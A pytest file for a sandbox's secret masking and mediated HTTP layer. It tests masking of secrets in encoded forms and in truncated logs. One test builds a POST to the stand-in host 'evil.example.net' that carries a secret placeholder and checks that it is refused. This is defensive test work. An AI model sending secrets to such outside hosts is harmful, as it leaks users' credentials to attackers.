"""Secrets are masked in every form that they usually take, and filled in nowhere else."""

import base64
import json
import urllib.parse

import pytest

from sandbox.engine_host import Compiled
from sandbox.host import Sandbox
from sandbox.masking import MASK, Masker
from sandbox.mediated_http import Mediator, Permit, Refused
from sandbox.outcome import Finding
from tests.sandbox.harness import a_job

KEY = 'line "one"\nline \\two\u00e9'
MASKER = Masker({"KEY": KEY})
SHOWN = {
    "plain": KEY,
    "JSON": json.dumps({"k": KEY}),
    "JSON that is not ASCII": json.dumps([KEY], ensure_ascii=False),
    "a repr": repr([KEY]),
    "a URL": "https://a.example/?k=" + urllib.parse.quote(KEY),
    "a form": urllib.parse.urlencode({"k": KEY}),
    "hex": KEY.encode().hex(),
    "upper case hex": KEY.encode().hex().upper(),
}


@pytest.mark.parametrize("form", SHOWN)
def test_a_secret_of_several_lines_is_masked_in(form: str) -> None:
    """A private key is such a secret, and logs show it escaped."""
    masked = MASKER.text(SHOWN[form])
    assert MASK in masked
    assert "one" not in masked
    assert MASKER.bytes(SHOWN[form].encode()) == masked.encode()


@pytest.mark.parametrize("before", ["", "a", "ab", "user:"])
def test_a_secret_is_masked_in_base64_of_more_than_itself(before: str) -> None:
    """`user:password` is how a password travels in a basic authorization."""
    text = base64.b64encode(f"{before}correct horse battery{before}".encode()).decode()
    masked = Masker({"KEY": "correct horse battery"}).text(text)
    assert MASK in masked
    assert len(masked.replace(MASK, "")) <= len(before) * 4 + 4


def test_masking_twice_is_masking_once() -> None:
    """Logs are masked before they are cut, and once more with the whole result."""
    masker = Masker({"KEY": "secret"})
    assert masker.text(masker.text("a secret")) == f"a {MASK}"


@pytest.mark.parametrize("end", [7990, 15990, 1990, 3990])
def test_the_place_where_a_text_is_cut_shows_no_half_secret(end: int) -> None:
    """The first half of a token is most of it."""
    source = f"""
def handler(event, profile, context):
    text = "x" * {end} + context.secret("KEY")
    context.log(text, field=text[100:])
    raise ValueError(text)
"""
    with Sandbox() as box:
        answer = box.run(a_job(source, secrets={"KEY": "0123456789abcdef"}))
    assert answer["results"][0]["outcome"] == "raised"
    assert "01234" not in json.dumps(answer)


@pytest.mark.parametrize("blank", ["", " ", "\t", "\n", "\u00a0", "\u2003"])
def test_a_placeholder_is_found_as_it_is_filled(blank: str) -> None:
    """With `*` as host the event's data would choose who receives the secret."""
    mediator = Mediator(Permit(("*",)), MASKER)
    message = {
        "method": "POST",
        "url": "https://evil.example.net/",
        "json": {"a": [{"b": "{{" + blank + "secret:KEY" + blank + "}}"}]},
    }
    with pytest.raises(Refused) as refused:
        mediator.perform(message, remaining_s=1.0)
    assert refused.value.code == "secret_host_not_listed"


def test_refused_sources_take_room_in_the_cache() -> None:
    """Whoever publishes broken sources all day must not fill the host's memory."""
    finding = Finding(1, 1, "x", "m" * 1000, "h" * 1000)
    assert Compiled("", (finding,) * 10).size > 20_000
